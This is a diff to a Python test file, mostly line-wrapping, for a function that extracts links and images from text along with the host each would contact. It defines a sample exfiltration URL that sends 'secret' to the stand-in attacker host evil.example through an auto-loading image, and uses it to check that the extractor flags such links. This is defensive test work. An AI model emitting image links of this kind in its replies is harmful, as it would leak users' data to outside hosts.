@@ -1,4 +1,6 @@
-"""Links and images of a text as data: what is found, whom each asks, and that no text takes long."""
+"""Links and images of a text as data: what is found, whom each asks, and that no text takes
+long.
+"""
 
 from __future__ import annotations
 
@@ -26,7 +28,12 @@ SECRET = "http://evil.example/p.png?d=secret"
         ("<img alt='x' SRC=https://f.example/a>", "https://f.example/a", "f.example", True),
         ('<img src="&#104;ttps://f.example/a">', "&#104;ttps://f.example/a", "f.example", True),
         ('<a href = "https:\\\\g.example/a">', "https:\\\\g.example/a", "g.example", False),
-        ("<p style='background: url(https://h.example/a)'>", "https://h.example/a", "h.example", True),
+        (
+            "<p style='background: url(https://h.example/a)'>",
+            "https://h.example/a",
+            "h.example",
+            True,
+        ),
         ("See https://i.example/a, it says.", "https://i.example/a", "i.example", False),
         ("See www.j.example.", "www.j.example", "www.j.example", False),
         ("[mail](mailto:ada@k.example)", "mailto:ada@k.example", "", False),
@@ -36,14 +43,19 @@ SECRET = "http://evil.example/p.png?d=secret"
     ],
 )
 def test_addresses_are_found(text: str, url: str, host: str, image: bool) -> None:
-    """Markdown, HTML, CSS and bare ones, with the host that a browser would ask, and whether a page would load them by itself."""
+    """Markdown, HTML, CSS and bare ones, with the host that a browser would ask, and whether a page
+    would load them by itself.
+    """
     assert TextLink(url=url, host=host, image=image) in links_of(text)
 
 
 def test_each_stands_once_in_its_order() -> None:
     """What is linked and loaded is an image; there are at most so many."""
     found = links_of(f"[a](https://a.example) and {SECRET}, ![b]({SECRET})")
-    assert [(one.host, one.image) for one in found] == [("a.example", False), ("evil.example", True)]
+    assert [(one.host, one.image) for one in found] == [
+        ("a.example", False),
+        ("evil.example", True),
+    ]
     assert links_of("Nothing: at all. [x] (y) a = b, 10:30, C:\\dir") == []
     assert len(links_of(" ".join(f"https://{n}.example" for n in range(900)))) == LINKS_MAX
 
@@ -64,7 +76,9 @@ def test_a_reply_has_them_beside_its_text() -> None:
         "ok": True,
         "links": [{"url": "x", "host": "y", "image": False}],
     }
-    assert Reply.model_validate(given_).model_dump()["links"] == [{"url": SECRET, "host": "evil.example", "image": True}]
+    assert Reply.model_validate(given_).model_dump()["links"] == [
+        {"url": SECRET, "host": "evil.example", "image": True}
+    ]
     assert "links" not in Reply(header=SECRET, narrative="None.", ok=True).model_dump()
 
 
